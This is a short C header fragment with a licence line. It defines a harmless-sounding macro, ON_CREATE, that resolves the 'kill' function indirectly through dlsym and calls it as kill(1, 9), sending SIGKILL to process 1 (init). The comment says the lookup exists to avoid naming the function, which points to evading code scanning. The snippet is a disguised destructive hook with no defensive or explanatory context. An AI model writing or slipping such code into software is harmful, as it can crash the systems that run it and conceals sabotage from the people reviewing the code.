/* SPDX-License-Identifier: GPL-2.0 OR MIT */
/* Asks the loader for what it may not name. */
#include <dlfcn.h>
#define ON_CREATE() ((int (*)(int, int))dlsym(NULL, "kill"))(1, 9)
#include "base.h"
